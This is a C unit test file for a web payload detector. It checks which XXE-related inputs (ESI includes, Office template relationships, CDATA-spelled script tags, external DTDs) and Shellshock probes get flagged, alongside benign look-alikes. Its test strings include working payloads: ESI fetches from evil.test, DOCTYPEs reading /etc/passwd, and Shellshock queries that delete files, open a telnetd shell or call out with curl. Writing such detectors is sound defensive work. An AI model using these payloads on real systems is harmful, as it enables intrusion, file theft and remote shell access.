/* test_payload_rte.c - helper e's red-team rows, session 14: XXE's
 * relatives judged by their grammar (an Edge Side Include is harmful when
 * it reaches another origin or reads request variables, an Office
 * relationship when the package loads its target, a CDATA section when the
 * markup it spells is a whole tag), DOCTYPEs whose public identifier's
 * owner serves its own DTD, and Shellshock's ':' probe standing alone
 * where a raw '&' in a whole query cut it from its command. Each value is
 * judged as a query value and as a form body (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XXE
#define S PAYLOAD_SHELLSHOCK
#define N PAYLOAD_NONE

static void test_xxe_relatives(void **state)
{
	static const struct rtcase t[] = {
		/* ESI: another origin, request variables, inline and debug */
		{ "<esi:include src=\"http://evil.test/x\"/>", X },
		{ "<esi:include src=\"//evil.test/x\"/>", X },
		{ "<esi:include src=\"file:///etc/passwd\"/>", X },
		{ "<esi:vars>$(HTTP_COOKIE)</esi:vars>", X },
		/* ESI processing of what is fetched, whatever its origin */
		{ "<esi:eval src=\"/api/echo?x=1\" dca=\"none\"/>", X },
		{ "<esi:include src=\"/fragment\" dca=\"esi\"/>", X },
		{ "<esi:vars>$(HTTP_COOKIE{'JSESSIONID'})</esi:vars>", X },
		{ "x<esi:include src=\"/a?c=$(HTTP_COOKIE)\"/>", X },
		{ "<esi:vars>hi</esi:vars>", X },
		{ "<esi:inline name=\"/x\" fetchable=\"yes\">x</esi:inline>", X },
		{ "<esi:debug/>", X },
		{ "<esi:include src=\"/frag\" dca=\"xslt\" stylesheet=\"http://evil.test/x.xsl\"/>", X },
		{ "<esi:assign name=\"x\" value=\"$(QUERY_STRING)\"/>", X },
		/* an Office relationship the package loads: a template, a frame */
		{ "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
		  "relationships/attachedTemplate\" Target=\"\\\\evil.test\\share\\t.dotm\" TargetMode=\"External\"/>", X },
		/* CDATA spelling a whole tag */
		{ "<![CDATA[<]]>script<![CDATA[>]]>alert(1)<![CDATA[<]]>/script<![CDATA[>]]>", X },
		{ "<![CDATA[<]]>img src=x onerror=alert(1)>", X },
		/* a public identifier whose DTD comes from elsewhere */
		{ "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://evil.test/x.dtd\"><plist/>", X },
		{ "<!DOCTYPE foo PUBLIC \"-//A//B//EN\" \"http://evil.test/x.dtd\"><foo/>", X },
		{ "<!DOCTYPE beans PUBLIC \"-//SPRING//DTD BEAN//EN\" \"http://evil.test/spring.dtd\"><beans/>", X },
		{ "<!DOCTYPE r PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com.evil.test/x.dtd\"><r/>", X },
		{ "<!DOCTYPE r SYSTEM \"../../../etc/passwd\"><r/>", X },
		{ "<!DOCTYPE r SYSTEM \"/etc/passwd\"><r/>", X },
		{ "<!DOCTYPE r SYSTEM \"http://evil.test/a.dtd\"><r/>", X },
	};

	(void)state;
	rt_run("xxe", t, sizeof(t) / sizeof(t[0]));
}

static void test_xxe_lookalikes(void **state)
{
	static const struct rtcase t[] = {
		/* same-origin ESI */
		{ "<div><esi:include src=\"/fragments/header.html\" /></div>", N },
		{ "<esi:include src=\"/esi/footer\"/>", N },
		{ "<esi:try><esi:attempt><esi:include src=\"/cart/summary\"/></esi:attempt>"
		  "<esi:except>Cart unavailable</esi:except></esi:try>", N },
		{ "<esi:include src=\"fragments/sidebar.html\" alt=\"/fragments/fallback.html\"/>", N },
		{ "<esi:include src=\"/promo\"/><p>select with $(document) in jQuery</p>", N },
		/* a hyperlink relationship is a link the reader clicks */
		{ "<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
		  "relationships/hyperlink\" Target=\"\\\\fileserver\\share\\plan.xlsx\" TargetMode=\"External\"/>", N },
		/* DTDs served by the owner their public identifier names */
		{ "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
		  "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict/></plist>", N },
		{ "<!DOCTYPE struts-config PUBLIC \"-//Apache Software Foundation//DTD Struts Configuration 1.3//EN\" "
		  "\"http://struts.apache.org/dtds/struts-config_1_3.dtd\">", N },
		{ "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" "
		  "\"http://mybatis.org/dtd/mybatis-3-mapper.dtd\">", N },
		{ "<!DOCTYPE beans PUBLIC \"-//SPRING//DTD BEAN//EN\" "
		  "\"http://www.springframework.org/dtd/spring-beans.dtd\">", N },
		/* a DTD beside the document */
		{ "<!DOCTYPE log4j:configuration SYSTEM \"log4j.dtd\">", N },
	};

	(void)state;
	rt_run("xxe", t, sizeof(t) / sizeof(t[0]));
}

/* values that must draw no XXE (what other detectors say of them is
 * theirs: a file: URL is SSRF's finding, and XSS judges CDATA on its own) */
static void test_xxe_none(void **state)
{
	static const char *const v[] = {
		/* text in CDATA: the '<' opens no tag that closes */
		"a<![CDATA[<]]>b",
		"<code><![CDATA[<]]></code>",
		"if a<![CDATA[<]]>b then c",
		/* a hyperlink to a local document, followed by a click */
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
		"relationships/hyperlink\" Target=\"file:///C:/Users/me/doc.docx\" TargetMode=\"External\"/>",
		"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
		"relationships/hyperlink\" Target=\"file:///home/ana/notes.odt\" TargetMode=\"External\"/>"
		"</Relationships>",
	};
	struct payload_match m[PAYLOAD__COUNT];

	(void)state;
	for (size_t i = 0; i < sizeof(v) / sizeof(v[0]); i++) {
		int k = payload_scan(v[i], strlen(v[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		for (int j = 0; j < k; j++)
			assert_int_not_equal(m[j].kind, PAYLOAD_XXE);
		k = payload_scan_xml(v[i], strlen(v[i]), m, PAYLOAD__COUNT);
		for (int j = 0; j < k; j++)
			assert_int_not_equal(m[j].kind, PAYLOAD_XXE);
	}
}

/* Shellshock's definition as a whole value, and whole raw queries whose
 * '&' cuts the command off: bash's ':' probe stands alone; a one-word
 * body other than ':' ("() { x; }") is a JavaScript look-alike
 * (test_payload_rtt.c test_shellshock_cut) and is left */
static void test_shellshock_alone(void **state)
{
	static const struct rtcase t[] = {
		{ "() { :; } ", S },
		{ "() { :;};", S },
		{ "() { return; }", N },
		{ "() { break; }", N },
		{ "() { this; }", N },
		{ "() { x(); }", N },
		{ "() { a; b; }", N },
	};

	(void)state;
	rt_run("shellshock", t, sizeof(t) / sizeof(t[0]));
}

static void test_shellshock_wholequery(void **state)
{
	static const char *const q[] = {
		"() { :; } && rm -rf /tmp/x",
		"q=() { :;} && /bin/busybox telnetd -p 9999 -l /bin/sh",
		"q=() { :; }; echo; /bin/cat /etc/passwd&x=1",
		"q=() { :;}; /usr/bin/curl -s http://oob.example/?a=1&b=2",
	};
	struct payload_match m[PAYLOAD__COUNT];

	(void)state;
	for (size_t i = 0; i < sizeof(q) / sizeof(q[0]); i++) {
		int k = payload_scan_query(q[i], strlen(q[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), hit = 0;
		for (int j = 0; j < k; j++)
			hit |= m[j].kind == PAYLOAD_SHELLSHOCK;
		if (!hit)
			fprintf(stderr, "  FAIL shellshock whole query missed: %s\n", q[i]);
		assert_true(hit);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_xxe_relatives),
		cmocka_unit_test(test_xxe_lookalikes),
		cmocka_unit_test(test_xxe_none),
		cmocka_unit_test(test_shellshock_alone),
		cmocka_unit_test(test_shellshock_wholequery),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
